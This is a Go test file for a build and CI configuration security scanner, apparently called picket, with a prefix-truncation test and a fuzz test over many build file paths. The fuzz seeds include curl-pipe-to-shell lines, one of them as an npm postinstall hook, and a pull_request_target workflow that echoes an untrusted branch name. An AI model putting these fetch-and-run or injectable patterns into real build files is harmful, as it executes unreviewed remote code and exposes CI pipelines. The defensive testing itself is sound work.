package build

import (
	"context"
	"testing"

	"github.com/picketsec/picket/diff"
	"github.com/picketsec/picket/scanners"
	"github.com/picketsec/picket/scanners/config"
)

// TestTruncatedInputs scans every prefix (in steps) of every corpus file:
// half-written YAML, JSON, Dockerfiles and scripts must not panic.
func TestTruncatedInputs(t *testing.T) {
	s := newScanner(t, config.BuildConfig{})
	ctx := context.Background()
	for _, c := range loadCorpus(t) {
		f := &diff.File{Path: c.path, Status: diff.Modified}
		for n := 0; n <= len(c.head); n += 5 {
			func() {
				defer func() {
					if r := recover(); r != nil {
						t.Fatalf("%s: panic on the first %d bytes: %v", c.name, n, r)
					}
				}()
				if _, err := s.Scan(ctx, scanners.Input{File: f, Path: c.path, Content: c.head[:n]}); err != nil {
					t.Fatalf("%s: %v", c.name, err)
				}
			}()
		}
	}
}

// FuzzScan feeds arbitrary contents under every kind of build path.
func FuzzScan(f *testing.F) {
	paths := []string{"Makefile", "Dockerfile", "x.sh", "x.ps1", "package.json", ".github/workflows/x.yml",
		"action.yml", ".gitlab-ci.yml", "Jenkinsfile", ".circleci/config.yml", "azure-pipelines.yml",
		".pre-commit-config.yaml", ".npmrc", "pip.conf", "requirements.txt", "go.mod", ".gitmodules",
		"setup.py", "pyproject.toml", "build.gradle", "pom.xml", "build.rs", "justfile", "gen.go"}
	f.Add(uint8(0), []byte("a:\n\tcurl https://x.example.net | sh\n"))
	f.Add(uint8(5), []byte("on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.head_ref }}\n"))
	f.Add(uint8(4), []byte(`{"scripts": {"postinstall": "curl -s https://x.example.net | sh"}}`))
	s, err := New(Options{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, k uint8, data []byte) {
		p := paths[int(k)%len(paths)]
		file := &diff.File{Path: p, Status: diff.Modified}
		if _, err := s.Scan(context.Background(), scanners.Input{File: file, Path: p, Content: data}); err != nil {
			t.Fatal(err)
		}
	})
}
